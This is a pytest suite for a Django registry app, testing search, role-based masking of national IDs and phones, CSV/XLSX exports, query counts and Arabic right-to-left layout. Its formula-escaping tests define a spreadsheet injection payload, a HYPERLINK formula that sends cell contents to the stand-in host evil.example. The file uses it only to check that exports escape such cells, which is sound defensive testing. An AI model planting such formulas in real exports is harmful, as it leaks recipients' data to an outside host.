"""Registry pages: lists, search, forms, masking of personal data, exports, query counts
and the right-to-left layout in Arabic."""

import csv
import io

import pytest
from django.contrib import messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from essor.audit.models import AuditEntry
from essor.registry.models import Organisation, Person
from essor.registry.tests.factories import OrganisationFactory, PersonFactory
from essor.territory.models import Province

pytestmark = pytest.mark.django_db


# -- lists and filters ------------------------------------------------------------------------


@pytest.fixture
def organisations(oriental, casablanca_settat):
    return {
        "tifawine": OrganisationFactory(name="Coopérative Tifawine", sector="argan",
                                        ice="001234567000089"),
        "nour": OrganisationFactory(name="Association Nour", kind="association",
                                    sector="education", name_ar="جمعية النور"),
        "oujda": OrganisationFactory(name="Coopérative Angad", region=oriental,
                                     province=Province.objects.get(code="MA-OUJ")),
    }


def _names(response, candidates):
    html = response.content.decode()
    return {name for name in candidates if name in html}


ORG_NAMES = {"Coopérative Tifawine", "Association Nour", "Coopérative Angad"}


@pytest.mark.parametrize(("query", "expected"), [
    ("", ORG_NAMES),
    ("?q=cooperative", {"Coopérative Tifawine", "Coopérative Angad"}),
    ("?q=TIFAWINE", {"Coopérative Tifawine"}),
    ("?q=النور", {"Association Nour"}),
    ("?q=001234567000089", {"Coopérative Tifawine"}),
    ("?region=MA-02", {"Coopérative Angad"}),
    ("?kind=association", {"Association Nour"}),
    ("?sector=argan", {"Coopérative Tifawine"}),
    ("?q=nothing-like-this", set()),
])
def test_organisation_list_search_and_filters(client_as, national_admin, organisations, query,
                                              expected):
    response = client_as(national_admin).get(f"/registry/organisations/{query}")

    assert response.status_code == 200
    assert _names(response, ORG_NAMES) == expected


def test_organisation_list_shows_only_the_officers_region(client_as, oriental_officer,
                                                          organisations):
    client = client_as(oriental_officer)

    assert _names(client.get("/registry/organisations/"), ORG_NAMES) == {"Coopérative Angad"}
    assert _names(client.get("/registry/organisations/?region=MA-06"), ORG_NAMES) <= {
        "Coopérative Angad"}
    assert _names(client.get("/registry/organisations/?q=tifawine"), ORG_NAMES) == set()


@pytest.fixture
def people(oriental):
    return {
        "fatima": PersonFactory(first_name="Fatima Zahra", last_name="Benali",
                                first_name_ar="فاطمة الزهراء", last_name_ar="بنعلي",
                                phone="0612345678", national_id="AB123456", region=oriental),
        "youssef": PersonFactory(first_name="Youssef", last_name="Amrani", sex="M",
                                 region=oriental),
        "khadija": PersonFactory(first_name="Khadija", last_name="Tazi"),  # Casablanca
    }


PEOPLE_NAMES = {"Fatima Zahra Benali", "Youssef Amrani", "Khadija Tazi"}


@pytest.mark.parametrize(("query", "expected"), [
    ("", PEOPLE_NAMES),
    ("?q=fatima-zahra", {"Fatima Zahra Benali"}),
    ("?q=BENALI", {"Fatima Zahra Benali"}),
    ("?q=بنعلي", {"Fatima Zahra Benali"}),
    ("?q=%2B212+6+12+34+56+78", {"Fatima Zahra Benali"}),
    ("?q=ab+123456", {"Fatima Zahra Benali"}),
    ("?sex=M", {"Youssef Amrani"}),
    ("?region=MA-06", {"Khadija Tazi"}),
])
def test_person_list_search_and_filters(client_as, national_admin, people, query, expected):
    response = client_as(national_admin).get(f"/registry/people/{query}")

    assert response.status_code == 200
    assert _names(response, PEOPLE_NAMES) == expected


def test_a_trainer_cannot_search_people_by_national_id_or_phone(client_as, trainer, people):
    client = client_as(trainer)

    assert _names(client.get("/registry/people/?q=AB123456"), PEOPLE_NAMES) == set()
    assert _names(client.get("/registry/people/?q=0612345678"), PEOPLE_NAMES) == set()
    assert _names(client.get("/registry/people/?q=benali"), PEOPLE_NAMES) == {
        "Fatima Zahra Benali"}


def test_person_list_shows_only_the_readers_region(client_as, trainer, people):
    assert _names(client_as(trainer).get("/registry/people/"), PEOPLE_NAMES) == {
        "Fatima Zahra Benali", "Youssef Amrani"}


# -- forms ------------------------------------------------------------------------------------


def test_an_officer_creates_an_organisation_through_the_form(client_as, casablanca_officer,
                                                             casablanca_settat):
    berrechid = Province.objects.get(code="MA-BRR")

    response = client_as(casablanca_officer).post("/registry/organisations/new/", {
        "name": "Coopérative Assafae", "name_ar": "تعاونية الصفاء", "kind": "cooperative",
        "sector": "crafts", "region": casablanca_settat.pk, "province": berrechid.pk,
        "city": "Berrechid", "members_women": "18", "members_men": "2"})

    organisation = Organisation.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/registry/organisations/{organisation.pk}/"
    assert (organisation.name, organisation.province, organisation.members_women) == (
        "Coopérative Assafae", berrechid, 18)
    entry = AuditEntry.objects.get(action="registry.organisation.created")
    assert entry.actor == casablanca_officer
    assert entry.object_id == str(organisation.pk)


def test_the_organisation_form_refuses_a_province_of_another_region(
        client_as, casablanca_officer, casablanca_settat):
    response = client_as(casablanca_officer).post("/registry/organisations/new/", {
        "name": "Coopérative Assafae", "kind": "cooperative", "region": casablanca_settat.pk,
        "province": Province.objects.get(code="MA-OUJ").pk})

    assert response.status_code == 200
    assert response.context["form"].errors
    assert not Organisation.objects.exists()


def test_the_organisation_form_refuses_a_region_outside_the_officers_scope(
        client_as, oriental_officer, casablanca_settat):
    response = client_as(oriental_officer).post("/registry/organisations/new/", {
        "name": "Coopérative Assafae", "kind": "cooperative", "region": casablanca_settat.pk})

    assert response.status_code == 200
    assert "region" in response.context["form"].errors
    assert not Organisation.objects.exists()


def _person_data(region, **changes):
    return {"first_name": "Fatima Zahra", "last_name": "Benali", "sex": "F",
            "region": region.pk, "phone": "0612345678", "birth_year": "1994", **changes}


def test_the_person_form_creates_a_person_and_a_second_submission_shows_the_first(
        client_as, oriental_officer, oriental):
    client = client_as(oriental_officer)

    first = client.post("/registry/people/new/", _person_data(oriental))
    person = Person.objects.get()
    assert first.status_code == 302
    assert first["Location"] == f"/registry/people/{person.pk}/"

    second = client.post("/registry/people/new/", _person_data(
        oriental, first_name="FATIMA-ZAHRA", last_name="benali", phone="+212 6 12 34 56 78",
        birth_year="", first_name_ar="فاطمة الزهراء"), follow=True)

    assert Person.objects.count() == 1
    assert second.redirect_chain[0][0] == f"/registry/people/{person.pk}/"
    shown = [(m.level, str(m)) for m in second.context["messages"]]
    assert shown[-1][0] == messages.INFO  # "already registered: the existing record is shown"
    assert messages.SUCCESS not in [level for level, _text in shown[1:]]
    person.refresh_from_db()
    assert person.first_name == "Fatima Zahra"
    assert person.birth_year == 1994
    assert person.first_name_ar == "فاطمة الزهراء"
    assert AuditEntry.objects.filter(action="registry.person.created").count() == 1


def test_a_trainer_registers_a_walk_in_without_a_national_id_field(client_as, trainer, oriental):
    client = client_as(trainer)
    assert "national_id" not in client.get("/registry/people/new/").context["form"].fields

    response = client.post("/registry/people/new/", _person_data(oriental,
                                                                 national_id="AB123456"))

    assert response.status_code == 302
    assert Person.objects.get().national_id == ""


def test_the_person_form_refuses_an_invalid_national_id_and_phone(client_as, oriental_officer,
                                                                  oriental):
    response = client_as(oriental_officer).post("/registry/people/new/", _person_data(
        oriental, national_id="123", phone="12"))

    assert response.status_code == 200
    assert {"national_id", "phone"} <= set(response.context["form"].errors)
    assert not Person.objects.exists()


def test_an_officer_typing_a_foreign_regions_national_id_learns_nothing(
        client_as, oriental_officer, oriental):
    foreign = PersonFactory(national_id="AB123456", birth_year=1990)  # Casablanca-Settat

    response = client_as(oriental_officer).post("/registry/people/new/", _person_data(
        oriental, national_id="AB123456", birth_year="1990"))

    assert str(foreign.pk) not in response.get("Location", "")
    assert response.status_code in (200, 302)


@pytest.mark.parametrize("birth_year", ["1994", ""])
def test_an_officer_can_register_a_homonym_of_a_person_of_another_region(
        client_as, oriental_officer, oriental, birth_year):
    PersonFactory(first_name="Khadija", last_name="Tazi", phone="", birth_year=None)

    response = client_as(oriental_officer).post("/registry/people/new/", {
        "first_name": "Khadija", "last_name": "Tazi", "sex": "F", "region": oriental.pk,
        "birth_year": birth_year})

    assert response.status_code == 302
    assert Person.objects.filter(region=oriental, last_name="Tazi").exists()


# -- masking of personal data -----------------------------------------------------------------


def test_a_trainer_sees_national_id_and_phone_masked_on_list_and_detail(client_as, trainer,
                                                                        people):
    client = client_as(trainer)
    fatima = people["fatima"]

    for url in ("/registry/people/", f"/registry/people/{fatima.pk}/",
                "/registry/people/?q=benali"):
        html = client.get(url).content.decode()
        assert "AB••••56" in html
        assert "AB123456" not in html
        assert "123456" not in html
        assert "06••••••78" in html
        assert "0612345678" not in html
        assert "0612 34 56 78" not in html


def test_an_officer_sees_the_full_national_id_on_the_detail_page(client_as, oriental_officer,
                                                                 people):
    html = client_as(oriental_officer).get(
        f"/registry/people/{people['fatima'].pk}/").content.decode()

    assert "AB123456" in html
    assert "0612 34 56 78" in html


# -- exports ----------------------------------------------------------------------------------


def _csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def _row_of(rows, last_name):
    return next(r for r in rows if r[1] == last_name)


def test_people_export_is_masked_for_a_trainer(client_as, trainer, people):
    client = client_as(trainer)

    csv_response = client.get("/registry/people/?format=csv")
    xlsx_response = client.get("/registry/people/?format=xlsx")

    rows = _csv_rows(csv_response)
    fatima = _row_of(rows, "Benali")
    assert fatima[-1] == "AB••••56"
    assert fatima[-2] == "06••••••78"
    assert fatima[6] == ""  # disability is not told
    assert b"AB123456" not in csv_response.content
    assert {r[1] for r in rows[1:]} == {"Benali", "Amrani"}  # not the Casablanca person
    sheet_rows = [[("" if v is None else str(v)) for v in row]
                  for row in _xlsx_sheet(xlsx_response).iter_rows(values_only=True)]
    assert _row_of(sheet_rows, "Benali")[-1] == "AB••••56"
    assert "AB123456" not in str(sheet_rows)


def test_people_export_is_complete_for_an_officer(client_as, oriental_officer, people):
    rows = _csv_rows(client_as(oriental_officer).get("/registry/people/?format=csv"))

    fatima = _row_of(rows, "Benali")
    assert fatima[0] == "Fatima Zahra"
    assert fatima[2:4] == ["فاطمة الزهراء", "بنعلي"]
    assert fatima[-1] == "AB123456"
    assert fatima[-2] == "0612 34 56 78"
    assert fatima[6] in ("no", "non")
    assert fatima[7] == "MA-02"
    assert {r[1] for r in rows[1:]} == {"Benali", "Amrani"}


def test_people_xlsx_export_is_complete_for_an_officer(client_as, oriental_officer, people):
    response = client_as(oriental_officer).get("/registry/people/?format=xlsx")

    assert response.status_code == 200
    values = [list(row) for row in _xlsx_sheet(response).iter_rows(values_only=True)]
    fatima = _row_of(values, "Benali")
    assert fatima[-1] == "AB123456"
    assert fatima[5] == 1990
    assert fatima[6] in ("no", "non")


def test_people_export_follows_the_lists_filters(client_as, national_admin, people):
    rows = _csv_rows(client_as(national_admin).get("/registry/people/?format=csv&sex=M"))

    assert [r[1] for r in rows[1:]] == ["Amrani"]


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_people_export_escapes_cells_that_would_be_formulas(client_as, coach, start):
    PersonFactory(first_name=start + HOSTILE[1:], last_name="Injection")
    client = client_as(coach)  # Casablanca-Settat; the officers' XLSX export crashes (above)

    fatima = _row_of(_csv_rows(client.get("/registry/people/?format=csv")), "Injection")
    assert fatima[0] == "'" + start + HOSTILE[1:]

    sheet = _xlsx_sheet(client.get("/registry/people/?format=xlsx"))
    cell = next(row[0] for row in sheet.iter_rows() if row[1].value == "Injection")
    assert cell.data_type == "s"
    assert cell.value == "'" + start + HOSTILE[1:]


def test_organisation_export_escapes_formulas(client_as, casablanca_officer):
    OrganisationFactory(name=HOSTILE)

    rows = _csv_rows(client_as(casablanca_officer).get("/registry/organisations/?format=csv"))

    assert rows[1][0] == "'" + HOSTILE


# -- query counts -----------------------------------------------------------------------------


def _count_queries(client, url):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize(("persona", "url"), [
    ("casablanca_officer", "/registry/people/"),
    ("casablanca_officer", "/registry/people/?format=csv"),
    ("casablanca_officer", "/registry/people/?q=benali"),
    ("coach", "/registry/people/"),
    ("coach", "/registry/people/?format=xlsx"),
])
def test_person_list_query_count_does_not_grow_with_rows(client_as, request, persona, url,
                                                         django_assert_max_num_queries):
    client = client_as(request.getfixturevalue(persona))
    province = Province.objects.get(code="MA-CAS")
    PersonFactory.create_batch(5, province=province, last_name="Benali")
    few = _count_queries(client, url)
    PersonFactory.create_batch(25, province=province, last_name="Benali")

    many = _count_queries(client, url)

    assert Person.objects.count() == 30
    assert few == many
    with django_assert_max_num_queries(10):
        client.get(url)


@pytest.mark.parametrize("url", ["/registry/organisations/",
                                 "/registry/organisations/?format=csv"])
def test_organisation_list_query_count_does_not_grow_with_rows(client_as, casablanca_officer,
                                                               url,
                                                               django_assert_max_num_queries):
    client = client_as(casablanca_officer)
    province = Province.objects.get(code="MA-CAS")
    OrganisationFactory.create_batch(5, province=province)
    few = _count_queries(client, url)
    OrganisationFactory.create_batch(25, province=province)

    many = _count_queries(client, url)

    assert few == many
    with django_assert_max_num_queries(10):
        client.get(url)


def test_person_detail_query_count_does_not_grow_with_memberships(
        client_as, casablanca_officer, django_assert_max_num_queries):
    from essor.registry.models import Membership

    client = client_as(casablanca_officer)
    person = PersonFactory()
    for organisation in OrganisationFactory.create_batch(2):
        Membership.objects.create(person=person, organisation=organisation)
    few = _count_queries(client, f"/registry/people/{person.pk}/")
    for organisation in OrganisationFactory.create_batch(10):
        Membership.objects.create(person=person, organisation=organisation)

    assert _count_queries(client, f"/registry/people/{person.pk}/") == few


# -- languages --------------------------------------------------------------------------------


def test_an_arabic_page_is_laid_out_right_to_left(client_as, casablanca_officer):
    client = client_as(casablanca_officer)

    response = client.post("/i18n/setlang/", {"language": "ar", "next": "/registry/people/"})
    assert response.status_code == 302

    html = client.get("/registry/organisations/").content.decode()
    assert '<html lang="ar" dir="rtl">' in html
    assert "bootstrap.rtl.min.css" in html


def test_a_french_page_is_laid_out_left_to_right(client_as, casablanca_officer):
    html = client_as(casablanca_officer).get("/registry/organisations/").content.decode()

    assert '<html lang="fr" dir="ltr">' in html
    assert "bootstrap.rtl.min.css" not in html
    assert "bootstrap.min.css" in html


def test_switching_back_from_arabic_to_french(client_as, casablanca_officer):
    client = client_as(casablanca_officer)
    client.post("/i18n/setlang/", {"language": "ar"})
    client.post("/i18n/setlang/", {"language": "fr"})

    assert '<html lang="fr" dir="ltr">' in client.get("/registry/people/").content.decode()
